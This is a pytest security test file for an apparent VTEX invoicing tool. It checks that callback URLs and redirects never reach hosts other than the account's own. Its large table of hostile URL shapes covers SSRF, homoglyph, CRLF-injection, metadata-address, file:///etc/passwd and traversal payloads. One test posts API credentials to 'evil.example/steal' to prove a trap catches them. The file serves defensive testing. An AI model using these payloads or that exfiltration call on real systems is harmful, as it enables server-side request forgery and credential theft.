"""Callback addresses of hostile shapes, over the real way: not even a connection is made (promise 7)."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

import httpx
import pytest

from desktop_invoicer.simulator import APP_KEY, APP_TOKEN
from desktop_invoicer.vtex.client import make_http_client
from tests.attack.world import OWN_HOSTS, World, a_world
from tests.flow.desk_process import ACCOUNT
from tests.waiting import PATIENCE

OWN = OWN_HOSTS[0]


# {a} is the account, {o} the own host, {p} the right path, {id} the order
SHAPES = {
    "another host": "https://evil.example{p}",
    "another account": "https://lojaleblon.myvtex.com{p}",
    "the bare domain": "https://myvtex.com{p}",
    "a look-alike": "https://lojafarrngavea.myvtex.com{p}",
    "a dash for a dot": "https://{a}-myvtex.com{p}",
    "a letter for a dot": "https://{a}xmyvtex.com{p}",
    "a host that ends with ours": "https://evil{o}{p}",
    "a host that begins with ours": "https://{o}.evil.example{p}",
    "another top domain": "https://{o}.br{p}",
    "a host below ours": "https://evil.{o}{p}",
    "a host between": "https://{a}.evil.myvtex.com{p}",
    "the other own origin": "https://{a}.vtexcommercestable.com.br{p}",
    "a user": "https://{o}@evil.example{p}",
    "a user with a password": "https://{o}:443@evil.example{p}",
    "a user at ours": "https://user:pass@{o}{p}",
    "a user that looks like a path": "https://{o}%2f@evil.example{p}",
    "another port": "https://{o}:8443{p}",
    "the port of http": "https://{o}:80{p}",
    "an empty port": "https://{o}:{p}",
    "port zero": "https://{o}:0{p}",
    "a port beyond all": "https://{o}:65979{p}",
    "a port in other digits": "https://{o}:٤٤٣{p}",
    "an address": "https://127.0.0.1{p}",
    "an address as one number": "https://2130706433{p}",
    "a hexadecimal address": "https://0x7f000001{p}",
    "an octal address": "https://0177.0.0.1{p}",
    "a short address": "https://127.1{p}",
    "the address of nothing": "https://0{p}",
    "an address of the cloud": "https://169.254.169.254/latest/meta-data",
    "IPv6": "https://[::1]{p}",
    "IPv4 in IPv6": "https://[::ffff:127.0.0.1]{p}",
    "IPv6 with a zone": "https://[fe80::1%25eth0]{p}",
    "a name in brackets": "https://[{o}]{p}",
    "an accent": "https://lojafármgavea.myvtex.com{p}",
    "punycode": "https://xn--lojafrmgavea-lbb.myvtex.com{p}",
    "a Cyrillic letter": "https://lоjafarmgavea.myvtex.com{p}",  # noqa: RUF001 (that is the attack)
    "a kelvin sign": "https://{a}.myvte\u212a.com{p}",
    "wide letters": "https://\uff4c\uff4f\uff4a\uff41farmgavea.myvtex.com{p}",
    "an ideographic dot": "https://{a}。myvtex。com{p}",
    "a wide dot": "https://{a}．myvtex.com{p}",  # noqa: RUF001 (that is the attack)
    "a soft hyphen": "https://{a}\u00ad.evil.example{p}",
    "a sharp s": "https://{a}ß.myvtex.com{p}",
    "a backslash before a host": "https://evil.example\\@{o}{p}",
    "a backslash after a host": "https://{o}\\@evil.example{p}",
    "backslashes for slashes": "https:\\\\{o}{p}",
    "a tab": "https://{a}\t.myvtex.com{p}",
    "a new line": "https://{o}\r\nHost: evil.example{p}",
    "a new line at the end": "https://{o}{p}\n",
    "a blank in front": " https://{o}{p}",
    "a zero byte": "https://{o}\x00.evil.example{p}",
    "a dot as percent": "https://{a}%2emyvtex.com{p}",
    "a letter as percent": "https://%6cojafarmgavea.myvtex.com{p}",
    "a slash as percent": "https://evil.example%2f{o}{p}",
    "a dot at the end": "https://{o}.{p}",
    "two dots": "https://{a}..myvtex.com{p}",
    "plain http": "http://{o}{p}",
    "plain http on the right port": "http://{o}:443{p}",
    "another scheme": "ftp://{o}{p}",
    "a file": "file:///etc/passwd",
    "a script": "javascript://{o}{p}",
    "data": "data:text/plain,{o}{p}",
    "a scheme in a scheme": "https:https://evil.example{p}",
    "no scheme": "//{o}{p}",
    "no host": "https://{p}",
    "three slashes": "https:///{o}{p}",
    "one slash": "https:/{o}{p}",
    "no slash": "https:{o}{p}",
    "only a path": "{p}",
    "a fragment": "https://evil.example#@{o}{p}",
    "a fragment behind": "https://{o}{p}#evil",
    "a query": "https://evil.example?@{o}{p}",
    "a query behind": "https://{o}{p}?an=evil",
    "a workspace of another": "https://master--lojaleblon.myvtex.com{p}",
    "an account as a workspace": "https://{a}--evil.myvtex.com{p}",
    "two workspaces": "https://evil--x--{o}{p}",
    "no workspace": "https://--{o}{p}",
    "three dashes": "https://a---{o}{p}",
    "a workspace with a dot": "https://evil.example--{o}{p}",
    "a workspace in a path": "https://evil.example/x--{o}{p}",
    "dots": "https://{o}/_v/invoice-notifier/../invoice-notifier/{id}/invoice",
    "one dot": "https://{o}/_v/./invoice-notifier/{id}/invoice",
    "dots as percent": "https://{o}/_v/invoice-notifier/%2e%2e/{id}/invoice",
    "two slashes": "https://{o}/{p}",
    "two slashes behind": "https://{o}{p}//",
    "a semicolon": "https://{o}{p};evil",
    "a slash as percent in the order": "https://{o}/_v/invoice-notifier/x%2f..%2f{id}/invoice",
    "a question mark as percent": "https://{o}/_v/invoice-notifier/{id}%3f/invoice",
    "percent of percent": "https://{o}/_v/invoice-notifier/%252e%252e/{id}/invoice",
    "a zero as percent": "https://{o}/_v/invoice-notifier/{id}%00/invoice",
    "another order": "https://{o}/_v/invoice-notifier/v1gvea-01/invoice",
    "no order": "https://{o}/_v/invoice-notifier//invoice",
    "another end": "https://{o}/_v/invoice-notifier/{id}/refund",
    "upper case in the path": "https://{o}/_V/Invoice-Notifier/{id}/Invoice",
    "another way to the order": "https://{o}/api/oms/pvt/orders/{id}/invoice",
    "very long": "https://evil.example/" + "a" * 1900,
    "longer than can be": "https://{o}{p}" + "/" * 2000,
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with pytest.MonkeyPatch.context() as patch, a_world(tmp_path_factory.mktemp("world"), patch) as made:
        yield made


@pytest.mark.parametrize("name", SHAPES)
def test_nothing_goes_to_an_address_that_is_not_plainly_the_accounts_own(world: World, name: str) -> None:
    (asked,) = world.simulator.request_invoice(story="anonymous-pickup")
    order = asked.order_id
    path = f"/_v/invoice-notifier/{order}/invoice"
    hostile = SHAPES[name].format(a=ACCOUNT, o=OWN, p=path, id=order)
    world.front.seen.clear()

    status = world.announce(order, asked.id, hostile)
    if status == 202:
        held = world.wait_for_hold(order, "foreign_callback")
        assert held["hold"]["kind"] == "needs_person"
        assert held["hold"]["owner"] == "it"
        assert held["callback_url"] == hostile
        assert hostile[:30] in held["hold"]["message"]
    else:
        assert status == 422
        assert not [job for job in world.ask("jobs") if job["order"] == order]

    assert world.is_untouched()
    assert world.front.seen == []
    assert world.announce(order, asked.id, f"https://{OWN}{path}") == 202
    assert world.wait_for_hold(order, "document_due")["callback_url"] == f"https://{OWN}{path}"
    assert world.is_untouched()


def test_more_than_thirty_shapes_are_tried() -> None:
    assert len(SHAPES) > 80
    assert len(set(SHAPES.values())) == len(SHAPES)


def documented(world: World) -> str:
    """Bring an order up to its sending."""
    (asked,) = world.simulator.request_invoice(story="anonymous-pickup")
    order = asked.order_id
    assert world.announce(order, asked.id, f"https://{OWN}/_v/invoice-notifier/{order}/invoice") == 202
    job = world.wait_for_hold(order, "document_due")
    items = [{"itemIndex": line["item_index"], "quantity": line["units"]} for line in job["lines"]]
    model = job["decision"]["model"]
    xml = world.simulator.issue_document(order=order, items=items, value=job["value"], model=model)
    world.ask("attach", job=order, operator="ana", xml=base64.b64encode(xml).decode())
    return order


def send(world: World, order: str) -> None:
    job = world.job(order)
    world.ask("submit", job=order, operator="ana", confirmed=True, value=job["value"])


REDIRECTS = (301, 302, 303, 307, 308)
TARGETS = ("https://evil.example/steal", "//evil.example/steal", f"http://{OWN}/steal", f"https://{OWN}:8443/steal")


@pytest.mark.parametrize(("status", "target"), [*product(REDIRECTS, TARGETS[:1]), *product((307,), TARGETS[1:])])
def test_a_redirection_of_an_invoice_is_not_followed_but_told(world: World, status: int, target: str) -> None:
    order = documented(world)
    world.front.redirects = lambda seen: (status, target) if seen.method == "POST" else None

    send(world, order)
    held = world.wait_for_hold(order, "outcome_unknown")
    world.front.redirects = lambda _: None

    assert f"redirected with {status}" in held["hold"]["detail"]
    assert world.is_untouched()
    assert not [seen for seen in world.front.seen if "steal" in seen.path]
    world.wait(lambda: world.job(order)["stage"] == "closed")  # once it is let through, it goes on by itself


@pytest.mark.parametrize("status", REDIRECTS)
def test_a_redirection_of_a_reading_is_not_followed_but_told(world: World, status: int) -> None:
    (asked,) = world.simulator.request_invoice(story="anonymous-pickup")
    world.front.redirects = lambda seen: (status, TARGETS[0]) if seen.method == "GET" else None

    world.announce(asked.order_id, asked.id, f"https://{OWN}/_v/invoice-notifier/{asked.order_id}/invoice")
    held = world.wait_for_hold(asked.order_id, "waiting_for_vtex")
    world.front.redirects = lambda _: None

    assert f"redirected with {status}" in held["hold"]["detail"]
    assert world.is_untouched()
    world.wait_for_hold(asked.order_id, "document_due")


def test_an_honest_order_goes_its_whole_way_over_encrypted_connections(world: World) -> None:
    order = documented(world)

    send(world, order)

    world.wait(lambda: world.job(order)["stage"] == "closed")
    assert world.is_untouched()


async def test_the_trap_would_have_seen_it(world: World) -> None:
    """Show that the other tests could fail: what is sent to another host is caught, byte by byte."""
    headers = {"X-VTEX-API-AppKey": APP_KEY, "X-VTEX-API-AppToken": APP_TOKEN}
    async with make_http_client() as http:
        with pytest.raises(httpx.HTTPError):
            await http.post(
                "https://evil.example/steal", headers=headers, json={"invoiceValue": "9990"}, timeout=PATIENCE
            )

    assert APP_TOKEN.encode() in world.trap.wait()
    assert world.net.attempts == [("127.9.0.1", 443)]
